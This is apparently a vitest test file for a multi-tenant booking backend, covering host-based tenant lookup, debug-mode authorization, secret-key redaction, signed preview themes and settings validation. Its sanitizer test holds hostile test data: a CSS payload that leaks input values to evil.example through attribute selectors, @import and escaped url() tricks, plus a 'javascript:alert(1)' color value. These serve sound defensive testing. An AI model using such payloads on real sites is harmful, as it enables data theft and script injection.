import { describe, expect, it } from "vitest";
import { encodePreviewTheme } from "../../../domain/preview-theme";
import { createProviderToken } from "../../auth/provider-tokens";
import { createSession } from "../../auth/sessions";
import { companyUsers, customers } from "../../db/schema";
import { signPreviewTheme } from "../../tenancy/preview-signature";
import { SOLO, SPA } from "../../testing";
import { useTestServer } from "../../use-test-server";

const server = useTestServer();
const signed = (company: string, themes: unknown) => signPreviewTheme(server.config.PREVIEW_SECRET, company, encodePreviewTheme(themes), new Date()).previewTheme;

describe("tenant resolution", () => {
  it("finds a company's token by host, ignoring the port", async () => {
    const res = await server.api("/api/companies/token/host/localhost:3000", { company: null });
    expect(res.status).toBe(200);
    expect(await res.json()).toEqual({ token: SPA, isDebug: false });
    const solo = await server.api("/api/companies/token/host/solo.localhost", { company: null });
    expect(await solo.json()).toEqual({ token: SOLO, isDebug: false });
  });

  it("grants debug mode (isdebug header) to a signed-in company user of that business only", async () => {
    const spa = (await server.companies.byTokenOrNull(SPA))!;
    const solo = (await server.companies.byTokenOrNull(SOLO))!;
    const [user] = await server.database.db.insert(companyUsers).values({ companyId: spa.id, email: "debug@lumiere.example", firstname: "Inès", role: "manager" }).returning();
    const token = await createProviderToken({ db: server.database.db, companyId: spa.id }, user!.id, new Date());
    const [other] = await server.database.db.insert(companyUsers).values({ companyId: solo.id, email: "debug@solo.example", firstname: "Zoé", role: "manager" }).returning();
    const soloToken = await createProviderToken({ db: server.database.db, companyId: solo.id }, other!.id, new Date());
    const [customer] = await server.database.db.insert(customers).values({ companyId: spa.id, email: "debug-customer@example.com", firstname: "Léa", lastname: "Martin" }).returning();
    const customerToken = await createSession({ db: server.database.db, companyId: spa.id }, customer!.id, new Date());
    const ask = async (headers: Record<string, string>) => (await (await server.api("/api/companies/token/host/localhost", { company: null, headers })).json()).isDebug;
    expect(await ask({ isdebug: "true", authorization: `Bearer ${token}` })).toBe(true);
    expect(await ask({ isdebug: "1", authorization: `Bearer ${token}` })).toBe(true);
    // not asked, asked without a token, with another business's user, with a customer's session
    expect(await ask({ authorization: `Bearer ${token}` })).toBe(false);
    expect(await ask({ isdebug: "true" })).toBe(false);
    expect(await ask({ isdebug: "true", authorization: `Bearer ${soloToken}` })).toBe(false);
    expect(await ask({ isdebug: "true", authorization: `Bearer ${customerToken}` })).toBe(false);
    expect(await ask({ isdebug: "true", authorization: "Bearer nope" })).toBe(false);
  });

  it("answers 404 for a host no company owns", async () => {
    const res = await server.api("/api/companies/token/host/nobody.example", { company: null });
    expect(res.status).toBe(404);
    expect((await res.json()).error.code).toBe("host_unknown");
  });

  it("requires the company header on every other call, with the field named, in the caller's language", async () => {
    const res = await server.api("/api/companies/me", { company: null, lang: "en" });
    expect(res.status).toBe(400);
    const body = await res.json();
    expect(body.error).toMatchObject({ code: "company_required", fields: { company: "required" } });
    expect(body.error.message).toBe("The 'company' header is required.");
    const fr = await (await server.api("/api/categories", { company: null })).json();
    expect(fr.error.message).toBe("L'en-tête « company » est obligatoire.");
  });

  it("refuses an unknown company token", async () => {
    const res = await server.api("/api/companies/me", { company: "nope" });
    expect(res.status).toBe(404);
  });
});

describe("GET /api/companies/me", () => {
  it("gives the public company with the spec's defaults filled in", async () => {
    const { company } = await (await server.api("/api/companies/me")).json();
    expect(company.token).toBe(SPA);
    expect(company.settings.identity.displayName).toBe("Maison Lumière Spa");
    expect(company.settings.identity.logoSize).toBe(50);
    expect(company.settings.booker.payment.provider).toBe("free");
    expect(company.settings.booker.mCurrency).toEqual({ symbol: "€", code: "EUR" });
    expect(company.settings.booker.mCurrencyFormat).toBe("#!");
    expect(company.settings.booker.navigation.mobile).toMatchObject({ bottomNavLeft: "services", bottomNavRight: "contact" });
    expect(company.settings.booker.services.list.display).toEqual({ duration: true, price: true });
    const { company: solo } = await (await server.api("/api/companies/me", { company: SOLO })).json();
    expect(solo.settings.booker.services.list.display.price).toBe(true);
    expect(solo.settings.themes.colors.secondary).toBe("#c7836b");
  });

  it("never gives secret keys", async () => {
    const { database, companies } = server;
    const company = (await companies.byTokenOrNull(SPA))!;
    const settings = structuredClone(company.settings);
    settings.booker.payment = { provider: "stripe", keys: { publicKey: "pk_test_visible", secretKey: "sk_test_SECRET" } };
    settings.booker.oauthKeys.google = { clientId: "google-client", clientSecret: "google-SECRET" };
    settings.booker.oauthKeys.facebook = { appId: "fb-app", appSecret: "fb-SECRET" };
    expect((await companies.updateSettings(company.id, settings)).ok).toBe(true);
    const text = await (await server.api("/api/companies/me")).text();
    expect(text).toContain("pk_test_visible");
    expect(text).toContain("google-client");
    expect(text).not.toContain("SECRET");
    void database;
  });

  it("lays a preview theme the server signed, from the previewtheme header, over the company's theme", async () => {
    const previewtheme = signed(SPA, { colors: { primary: "#ff0066" } });
    const { company } = await (await server.api("/api/companies/me", { headers: { previewtheme } })).json();
    expect(company.settings.themes.colors.primary).toBe("#ff0066");
    expect(company.settings.themes.colors.secondary).toBe("#B9A04E");
    const plain = await (await server.api("/api/companies/me")).json();
    expect(plain.company.settings.themes.colors.primary).toBe("#1a1b1b");
  });

  it("refuses an unreadable, unsigned, expired or another business's preview theme with a 400 naming the header", async () => {
    const theme = encodePreviewTheme({ colors: { primary: "#ff0066" } });
    const expired = signPreviewTheme(server.config.PREVIEW_SECRET, SPA, theme, new Date(Date.now() - 31 * 60_000)).previewTheme;
    for (const previewtheme of ["%%%not-base64", theme, `${theme}.9999999999.${"A".repeat(43)}`, expired, signed(SOLO, { colors: { primary: "#ff0066" } })]) {
      const res = await server.api("/api/companies/me", { headers: { previewtheme } });
      expect(res.status, previewtheme).toBe(400);
      expect((await res.json()).error.fields).toEqual({ previewtheme: "invalid" });
    }
  });

  it("custom CSS reaches the page without @import or addresses of other sites; a preview's stylesheet only from the business's font hosts", async () => {
    const customCss = `@import url(https://evil.example/x.css); h1{color:red} input[value^=a]{background:url(https://evil.example/leak?e=a)} .logo{background:url(/images/logo.svg)} .x{background:url("//evil.example/y")} .y{background:u\\72l(https://evil.example/z)}`;
    const previewtheme = signed(SPA, { customCss, fonts: { title: { name: "Evil", url: "https://evil.example/evil.css" } } });
    const { company } = await (await server.api("/api/companies/me", { headers: { previewtheme } })).json();
    const css: string = company.settings.themes.customCss;
    expect(css).toContain("h1{color:red}");
    expect(css).toContain("url(/images/logo.svg)");
    expect(css).not.toContain("evil.example");
    expect(css).not.toContain("@import");
    expect(company.settings.themes.fonts.title.url).not.toContain("evil.example");
  });
});

describe("settings writes", () => {
  it("refuse a bad document with the path of the bad field, and change nothing", async () => {
    const company = (await server.companies.byTokenOrNull(SOLO))!;
    const bad = structuredClone(company.settings) as unknown as { themes: { colors: { primary: string } } };
    bad.themes.colors.primary = "javascript:alert(1)";
    const result = await server.companies.updateSettings(company.id, bad);
    expect(result).toMatchObject({ ok: false, path: "themes.colors.primary" });
    const after = await (await server.api("/api/companies/me", { company: SOLO })).json();
    expect(after.company.settings.themes.colors.primary).toBe("#5b2a3c");
  });
});

describe("health", () => {
  it("healthz and readyz answer", async () => {
    expect((await server.app.request("/healthz")).status).toBe(200);
    const ready = await server.app.request("/readyz");
    expect(ready.status).toBe(200);
    expect(await ready.json()).toEqual({ status: "ready" });
  });
});
